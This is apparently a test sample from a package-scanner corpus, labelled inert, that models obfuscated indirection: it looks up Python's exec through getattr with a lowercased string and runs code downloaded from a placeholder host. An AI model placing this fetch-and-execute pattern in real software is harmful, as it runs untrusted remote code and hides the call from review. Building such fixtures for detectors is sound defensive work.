# pkgguard corpus 592 (indirection), modelled on [obfuscation]; inert, never run.
import builtins
import urllib.request

_fn = getattr(builtins, "EXEC".lower())
_fn(urllib.request.urlopen("https://snippets.example/s.py").read())
